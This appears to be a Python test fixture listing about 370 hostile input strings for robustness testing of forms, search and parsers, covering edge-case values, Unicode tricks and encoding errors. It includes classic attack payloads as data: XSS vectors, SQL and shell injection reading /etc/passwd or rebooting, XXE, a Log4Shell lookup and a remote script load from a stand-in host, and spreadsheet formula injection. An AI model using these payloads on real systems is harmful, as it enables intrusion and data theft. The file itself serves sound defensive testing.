"""Strings that forms, sources and people who mean harm send, by what they aim at; written for these tests."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # nothing, and words that programs take for values
    "", " ", "\t\r\n", "\u00a0\u2003\u3000", "null", "None", "undefined", "nil", "true", "FALSE", "nan", "NaN", "-inf", "Infinity", "[]", "{}", "()", "0", "-0",
    "00", "1e309", "-1e-400", "1_000", "1.000,00", "0x1F", "0b11", "0o17", "１２３", "٣٤٥", "²³", "½", "9" * 400, "-" + "9" * 40, "1/0", "0/0", "1;2", "__proto__", "constructor",
    "NaN:NaN", "2024-02-30", "0000-00-00", "9999-99-99T99:99:99Z", "31.02.2024", "1970-01-01T00:00:00+99:99", "24:61", "T", "P1Y", "--", "...", "/", "\\", "*", "?", "%", "#", "@", "&", ";", ":",
    # markup and script
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<a href=\" \x01javascript:alert(1)\">x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<base href=//x.example/>", "<meta http-equiv=refresh content='0;url=//x.example'>", "<math><mi xlink:href='data:x,<script>'>",
    "<!--", "-->", "<!-- --!> <b>", "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#0;", "&#xD800;", "&#1114112;", "&nosuch;", "&;", "<", ">", "<>", "</", "<b", "<b x=\"", "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "`${alert(1)}`", "</title><script>alert(1)</script>", "</textarea><b>", "<p>" * 50, "</div>" * 50, "<a " + "x=y " * 200 + ">",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x00javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    # templates, formats and shells
    "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n", "%(x)s", "%d", "{0}", "{x!r}", "{x.__class__}", "$HOME", "$(id)", "`id`", "; ls -la", "| cat /etc/passwd",
    "&& reboot", "> /tmp/x", "-rf", "--help", "\\u0041", "\\x41", "\\\\", "\\n", "\"", "'", "''", "'\"", "`", "„", "“", "”", "’", "«»",
    "${jndi:ldap://x.example/a}", "() { :; }; echo x", "=1+1", "=HYPERLINK(\"http://x.example\")", "+1", "-1", "@SUM(A1)", "\t=1", "| calc", "=cmd|' /C calc'!A0",
    # databases and search syntax
    "' OR '1'='1", "'; DROP TABLE initiative; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(1)", "x' UNION SELECT NULL --", "/* x */", "%' AND 1=0 --", "_%_", "100%", "\\'; --", "x'||'y",
    "{\"$gt\": \"\"}", "AND", "OR", "NOT", "AND OR NOT", "a AND", "(a OR", "a)", "title:", ":x", "title:*", "*:*", "a~", "a~99", "a^", "a^1e9", "[a TO", "{a TO b}", "/a(/", "/[/", "a*b?c", "+", "-", "--a",
    "+a -", "\"a", "a\"", "\"\"", "\"a\"~2", "a\\", "country:", "country:LV country:", "-country:", "country:\"", "a:b:c", "<a", ">=a", "!a", "a&&b", "a||b", "^", "~", "°", "§",
    # files and addresses
    "../../../etc/passwd", "..\\..\\windows", "/dev/null", "file:///etc/passwd", "C:\\", "CON", "NUL", "~root", "a/./b", "a//b", "%2e%2e%2f", "%00", "%zz", "%c0%ae", "http://", "http:///x", "http://[", "http://[::1]:80/",
    "//x.example", "http://user:word@x.example", "http://127.0.0.1", "http://0x7f.1/", "http://x.example\r\nX-A: b", "http://x.example:99999", "mailto:a@b", "tel:+371", "ftp://x", "http://a b", "http://ā.example/ā?ā#ā",
    "http://" + "a" * 300 + ".example", "http://x.example/" + "a/" * 500, "?a=b&a=c", "#top", "a@b", "@b.lv", "a@", "a@@b.lv", "a@b..lv", "\"a b\"@c.lv", "a@[127.0.0.1]",
    # headers and logs
    "x\r\nSet-Cookie: a=b", "x\nBcc: b@x.example", "x\r\n\r\n<html>", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08", "\x7f", "\x85", "a\x0bb\x0cc", "\x00", "a\x00b", "\x01\x02\x03", "\x1a", "\x1f",
    # Unicode: direction, invisible, combining, wide, beyond the first plane
    "\ufeff", "\ufffe", "\uffff", "\ufffd", "\U0010ffff", "\u200b", "a\u200bb", "a\u200db", "a\u00adb", "\u2060", "\u180e", "\u034f", "\u061c", "\u202e", "a\u202etxt.exe", "\u2066a\u2069", "\u200fa", "\u2028", "\u2029",
    "a\u0301", "s\u030c", "a" + "\u0301" * 200, "\u0301", "".join(letter + "\u0316\u0323\u0334\u0347\u0363" * 8 for letter in "saule"), "ﬁ", "ß", "ẞ", "İ", "ı", "ſ", "K", "Å", "Ω", "ǆ", "ŉ", "ΐ", "Σς", "Ⅷ", "①", "㎏", "㈱",
    "ＦＵＬＬ", "𝐛𝐨𝐥𝐝", "🅐", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇱🇻", "🇱", "🇱🇻🇪🇪🇱", "👍🏽", "❤️", "⛔", "\U000e0041\U000e007f", "\ue000", "\U000f0000", "\u0378", "ᚠᛇ", "𓀀", "你好世界", "日本語。テスト", "안녕하세요", "שלום עולם", "مرحبا بالعالم", "สวัสดี",
    "नमस्ते दुनिया", "გამარჯობა", "Բարև", "Привіт, світе", "Ελλάδα", "āčēģīķļņšūž", "ĀČĒĢĪĶĻŅŠŪŽ", "ąčęėįšųūž", "õäöü", "łódź", "þæð", "Ǫ", "рауреr", "Аdmin", "Ⅰl1|", "﷽", "ᄀᄀᄀ각ᆨᆨ", "\u1100" * 50, "\u2800", "\u3164",
    # texts in the wrong encoding, and shapes
    "LiepÄ\u0081ja", "Ð Ð¸Ð³Ð°", "Rîga", "R�ga", "=?utf-8?q?R=C4=ABga?=", "R%C4%ABga", "R\\u012bga", "a" * 3000, "a " * 1000, "ab" * 1000, "ā" * 1000, "(" * 500, "[" * 500, "\"" * 501, "-" * 500, "." * 500, ",;" * 300,
    "a\nb\n\n\nc", "\n" * 200, "{\"a\": [1, {\"b\": null}]}", "[" * 100 + "]" * 100, "a,b;c\td", "\"a\"\"b\",c", "id\n1", "BEGIN:VCALENDAR", "---\na: b", "!!python/object:os.system", "&a [*a]", "# a", "[x](javascript:alert(1))",
)  # fmt: skip
"""Some 370 strings, none of which may raise, be shown as markup, or reach a field that it does not fit."""
